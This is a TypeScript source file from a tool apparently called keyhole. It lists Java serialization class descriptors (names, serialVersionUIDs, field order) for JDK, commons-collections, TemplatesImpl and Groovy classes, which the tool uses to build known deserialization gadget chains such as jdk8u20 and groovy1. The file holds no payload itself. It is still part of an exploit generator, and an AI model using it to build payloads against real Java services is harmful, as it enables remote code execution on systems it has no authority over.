/**
 * Class descriptors of the JDK and commons-collections classes keyhole's Java gadgets are made of:
 * names, serialVersionUIDs (as `serialver` reports them) and serializable fields in stream order.
 */
import { type ClassDescriptor, type Field, SC_SERIALIZABLE, SC_WRITE_METHOD } from './java-serialization.js';

const SERIALIZABLE_WITH_WRITE_METHOD = SC_SERIALIZABLE | SC_WRITE_METHOD;

/** A class that is not serializable, written only as a Class object (`Runtime.class`). */
const plainClass = (name: string): ClassDescriptor => ({ name, serialVersionUid: 0n, flags: 0, fields: [] });

const arrayClass = (name: string, serialVersionUid: bigint): ClassDescriptor => ({
  name,
  serialVersionUid,
  flags: SC_SERIALIZABLE,
  fields: [],
});

export const JAVA = {
  hashMap: {
    name: 'java.util.HashMap',
    serialVersionUid: 362498820763181265n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'loadFactor', type: 'F' },
      { name: 'threshold', type: 'I' },
    ],
  },
  hashSet: {
    name: 'java.util.HashSet',
    serialVersionUid: -5024744406713321676n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [],
  },
  url: {
    name: 'java.net.URL',
    serialVersionUid: -7627629688361524110n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'hashCode', type: 'I' },
      { name: 'port', type: 'I' },
      { name: 'authority', type: 'Ljava/lang/String;' },
      { name: 'file', type: 'Ljava/lang/String;' },
      { name: 'host', type: 'Ljava/lang/String;' },
      { name: 'protocol', type: 'Ljava/lang/String;' },
      { name: 'ref', type: 'Ljava/lang/String;' },
    ],
  },
  integer: {
    name: 'java.lang.Integer',
    serialVersionUid: 1360826667806852920n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'value', type: 'I' }],
    superclass: {
      name: 'java.lang.Number',
      serialVersionUid: -8742448824652078965n,
      flags: SC_SERIALIZABLE,
      fields: [],
    },
  },
  string: {
    name: 'java.lang.String',
    serialVersionUid: -6849794470754667710n,
    flags: SC_SERIALIZABLE,
    fields: [],
  },
  object: plainClass('java.lang.Object'),
  runtime: plainClass('java.lang.Runtime'),
  objectArray: arrayClass('[Ljava.lang.Object;', -8012369246846506644n),
  classArray: arrayClass('[Ljava.lang.Class;', -6118465897992725863n),
  stringArray: arrayClass('[Ljava.lang.String;', -5921575005990323385n),
} as const satisfies Record<string, ClassDescriptor>;

const TRANSFORMER = 'Lorg/apache/commons/collections/Transformer;';

/** commons-collections 3.x (the UIDs are the same from 3.1 to 3.2.2). */
export const COMMONS_COLLECTIONS_3 = {
  tiedMapEntry: {
    name: 'org.apache.commons.collections.keyvalue.TiedMapEntry',
    serialVersionUid: -8453869361373831205n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'key', type: 'Ljava/lang/Object;' },
      { name: 'map', type: 'Ljava/util/Map;' },
    ],
  },
  lazyMap: {
    name: 'org.apache.commons.collections.map.LazyMap',
    serialVersionUid: 7990956402564206740n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [{ name: 'factory', type: TRANSFORMER }],
  },
  chainedTransformer: {
    name: 'org.apache.commons.collections.functors.ChainedTransformer',
    serialVersionUid: 3514945074733160196n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iTransformers', type: `[${TRANSFORMER}` }],
  },
  constantTransformer: {
    name: 'org.apache.commons.collections.functors.ConstantTransformer',
    serialVersionUid: 6374440726369055124n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iConstant', type: 'Ljava/lang/Object;' }],
  },
  invokerTransformer: {
    name: 'org.apache.commons.collections.functors.InvokerTransformer',
    serialVersionUid: -8653385846894047688n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'iArgs', type: '[Ljava/lang/Object;' },
      { name: 'iMethodName', type: 'Ljava/lang/String;' },
      { name: 'iParamTypes', type: '[Ljava/lang/Class;' },
    ],
  },
  transformerArray: arrayClass('[Lorg.apache.commons.collections.Transformer;', -4803604734341277543n),
} as const satisfies Record<string, ClassDescriptor>;

const OBJECT = 'Ljava/lang/Object;';
const STRING = 'Ljava/lang/String;';

const PROXY = {
  name: 'java.lang.reflect.Proxy',
  serialVersionUid: -2222568056686623797n,
  flags: SC_SERIALIZABLE,
  fields: [{ name: 'h', type: 'Ljava/lang/reflect/InvocationHandler;' }],
} as const satisfies ClassDescriptor;

/** The JDK classes of the gadgets that reach TemplatesImpl, and of groovy1. */
export const JDK = {
  linkedHashSet: {
    name: 'java.util.LinkedHashSet',
    serialVersionUid: -2851667679971038690n,
    flags: SC_SERIALIZABLE,
    fields: [],
    superclass: JAVA.hashSet,
  },
  priorityQueue: {
    name: 'java.util.PriorityQueue',
    serialVersionUid: -7720805057305804111n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'size', type: 'I' },
      { name: 'comparator', type: 'Ljava/util/Comparator;' },
    ],
  },
  proxy: PROXY,
  /**
   * Proxy as the jdk8u20 gadget describes it: with a `dummy` field the class does not have, whose
   * value the stream reads and drops, so that an object can be written where no field asks for one.
   */
  proxyWithDummyField: {
    ...PROXY,
    fields: [{ name: 'dummy', type: OBJECT }, ...PROXY.fields],
  },
  annotationInvocationHandler: {
    name: 'sun.reflect.annotation.AnnotationInvocationHandler',
    serialVersionUid: 6182022883658399397n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'memberValues', type: 'Ljava/util/Map;' },
      { name: 'type', type: 'Ljava/lang/Class;' },
    ],
  },
  beanContextSupport: {
    name: 'java.beans.beancontext.BeanContextSupport',
    serialVersionUid: -4879613978649577204n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [{ name: 'serializable', type: 'I' }],
    superclass: {
      name: 'java.beans.beancontext.BeanContextChildSupport',
      serialVersionUid: 6328947014421475877n,
      flags: SC_SERIALIZABLE,
      fields: [{ name: 'beanContextChildPeer', type: 'Ljava/beans/beancontext/BeanContextChild;' }],
    },
  },
  concurrentHashMap: {
    name: 'java.util.concurrent.ConcurrentHashMap',
    serialVersionUid: 7249069246763182397n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'segmentMask', type: 'I' },
      { name: 'segmentShift', type: 'I' },
      { name: 'segments', type: '[Ljava/util/concurrent/ConcurrentHashMap$Segment;' },
    ],
  },
  segmentArray: arrayClass('[Ljava.util.concurrent.ConcurrentHashMap$Segment;', 5942287782593116532n),
  segment: {
    name: 'java.util.concurrent.ConcurrentHashMap$Segment',
    serialVersionUid: 2249069246763182397n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'loadFactor', type: 'F' }],
    superclass: {
      name: 'java.util.concurrent.locks.ReentrantLock',
      serialVersionUid: 7373984872572414699n,
      flags: SC_SERIALIZABLE,
      fields: [{ name: 'sync', type: 'Ljava/util/concurrent/locks/ReentrantLock$Sync;' }],
    },
  },
  nonfairSync: {
    name: 'java.util.concurrent.locks.ReentrantLock$NonfairSync',
    serialVersionUid: 7316153563782823691n,
    flags: SC_SERIALIZABLE,
    fields: [],
    superclass: {
      name: 'java.util.concurrent.locks.ReentrantLock$Sync',
      serialVersionUid: -5179523762034025860n,
      flags: SC_SERIALIZABLE,
      fields: [],
      superclass: {
        name: 'java.util.concurrent.locks.AbstractQueuedSynchronizer',
        serialVersionUid: 7373984972572414691n,
        flags: SC_SERIALIZABLE,
        fields: [{ name: 'state', type: 'I' }],
        superclass: {
          name: 'java.util.concurrent.locks.AbstractOwnableSynchronizer',
          serialVersionUid: 3737899427754241961n,
          flags: SC_SERIALIZABLE,
          fields: [],
        },
      },
    },
  },
  byteArray: arrayClass('[B', -5984413125824719648n),
  byteArrayArray: arrayClass('[[B', 5475560301672258359n),
  file: {
    name: 'java.io.File',
    serialVersionUid: 301077366599181567n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [{ name: 'path', type: STRING }],
  },
  templates: plainClass('javax.xml.transform.Templates'),
  override: plainClass('java.lang.Override'),
  traxFilter: plainClass('com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter'),
} as const satisfies Record<string, ClassDescriptor>;

/** The fields of every form of TemplatesImpl. */
const TEMPLATES_IMPL_FIELDS: readonly Field[] = [
  { name: '_indentNumber', type: 'I' },
  { name: '_transletIndex', type: 'I' },
  { name: '_bytecodes', type: '[[B' },
  { name: '_class', type: '[Ljava/lang/Class;' },
  { name: '_name', type: STRING },
  { name: '_outputProperties', type: 'Ljava/util/Properties;' },
];

/** TemplatesImpl with `extra` fields: in stream order, primitive fields first, each group by name. */
function templatesImpl(extra: readonly Field[]): ClassDescriptor {
  const primitive = (field: Field) => field.type.length === 1;
  const byName = (a: Field, b: Field) => (a.name < b.name ? -1 : 1);
  const fields = [...TEMPLATES_IMPL_FIELDS, ...extra];
  return {
    name: 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
    serialVersionUid: 673094361519270707n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      ...fields.filter(primitive).sort(byName),
      ...fields.filter((field) => !primitive(field)).sort(byName),
    ],
  };
}

const USE_SERVICES_MECHANISM: Field = { name: '_useServicesMechanism', type: 'Z' };
const AUX_CLASSES: Field = {
  name: '_auxClasses',
  type: 'Lcom/sun/org/apache/xalan/internal/xsltc/runtime/Hashtable;',
};

/**
 * TemplatesImpl as three JDKs write it: its fields changed, its serialVersionUID did not. A JDK reads
 * the fields it knows from any of them and drops the others.
 */
export const TEMPLATES_IMPL_FORMS = {
  jdk7: templatesImpl([USE_SERVICES_MECHANISM, AUX_CLASSES]),
  /** JDK 8 before update 40. */
  jdk8: templatesImpl([
    USE_SERVICES_MECHANISM,
    AUX_CLASSES,
    { name: '_accessExternalStylesheet', type: STRING },
  ]),
  /** Its serialPersistentFields since (JDK 8u40 to this day). */
  current: templatesImpl([]),
} as const satisfies Record<string, ClassDescriptor>;

const TRANSFORMER_4 = 'Lorg/apache/commons/collections4/Transformer;';

/** commons-collections4 4.0, the last version whose InstantiateTransformer is serializable. */
export const COMMONS_COLLECTIONS_4 = {
  transformingComparator: {
    name: 'org.apache.commons.collections4.comparators.TransformingComparator',
    serialVersionUid: 3456940356043606220n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'decorated', type: 'Ljava/util/Comparator;' },
      { name: 'transformer', type: TRANSFORMER_4 },
    ],
  },
  comparableComparator: {
    name: 'org.apache.commons.collections4.comparators.ComparableComparator',
    serialVersionUid: -291439688585137865n,
    flags: SC_SERIALIZABLE,
    fields: [],
  },
  chainedTransformer: {
    name: 'org.apache.commons.collections4.functors.ChainedTransformer',
    serialVersionUid: 3514945074733160196n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iTransformers', type: `[${TRANSFORMER_4}` }],
  },
  transformerArray: arrayClass('[Lorg.apache.commons.collections4.Transformer;', 4143657982017290149n),
  constantTransformer: {
    name: 'org.apache.commons.collections4.functors.ConstantTransformer',
    serialVersionUid: 6374440726369055124n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iConstant', type: OBJECT }],
  },
  instantiateTransformer: {
    name: 'org.apache.commons.collections4.functors.InstantiateTransformer',
    serialVersionUid: 3786388740793356347n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'iArgs', type: '[Ljava/lang/Object;' },
      { name: 'iParamTypes', type: '[Ljava/lang/Class;' },
    ],
  },
} as const satisfies Record<string, ClassDescriptor>;

/** Groovy 2.3.9: groovy 2.4.4 changed MethodClosure's serialVersionUID when it stopped reading one. */
export const GROOVY_2_3 = {
  convertedClosure: {
    name: 'org.codehaus.groovy.runtime.ConvertedClosure',
    serialVersionUid: 1162833713450835227n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'methodName', type: STRING }],
    superclass: {
      name: 'org.codehaus.groovy.runtime.ConversionHandler',
      serialVersionUid: 1162833717190835227n,
      flags: SC_SERIALIZABLE,
      fields: [
        { name: 'delegate', type: OBJECT },
        { name: 'handleCache', type: 'Ljava/util/concurrent/ConcurrentHashMap;' },
      ],
    },
  },
  methodClosure: {
    name: 'org.codehaus.groovy.runtime.MethodClosure',
    serialVersionUid: 1228988487386910280n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'method', type: STRING }],
    superclass: {
      name: 'groovy.lang.Closure',
      serialVersionUid: 4368710879820278874n,
      flags: SC_SERIALIZABLE,
      fields: [
        { name: 'directive', type: 'I' },
        { name: 'maximumNumberOfParameters', type: 'I' },
        { name: 'resolveStrategy', type: 'I' },
        { name: 'bcw', type: 'Lorg/codehaus/groovy/runtime/callsite/BooleanClosureWrapper;' },
        { name: 'delegate', type: OBJECT },
        { name: 'owner', type: OBJECT },
        { name: 'parameterTypes', type: '[Ljava/lang/Class;' },
        { name: 'thisObject', type: OBJECT },
      ],
    },
  },
} as const satisfies Record<string, ClassDescriptor>;
